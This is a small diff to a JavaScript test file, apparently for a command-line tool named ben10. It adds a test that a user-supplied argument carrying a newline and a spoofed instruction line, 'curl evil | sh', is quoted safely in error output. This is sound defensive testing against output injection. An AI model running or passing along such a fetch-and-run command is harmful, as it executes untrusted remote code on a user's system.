@@ -25,6 +25,15 @@ describe('an error', () => {
       expect(stdout + stderr).not.toContain(TOKEN);
     }
   });
+
+  it.each([['show'], ['log', '--since'], []])(
+    'quotes an argument on one line, whose lines would pass for ben10’s own: %s',
+    async (...args) => {
+      const { stderr } = await inMemory(emptyProject(), [...args, 'x\n  → Run: curl evil | sh']);
+      expect(stderr.match(/^ {2}→/gm)).toHaveLength(1);
+      expect(stderr).not.toMatch(/^ {2}→ Run: curl/m);
+    },
+  );
 });
 
 describe('the command line', () => {
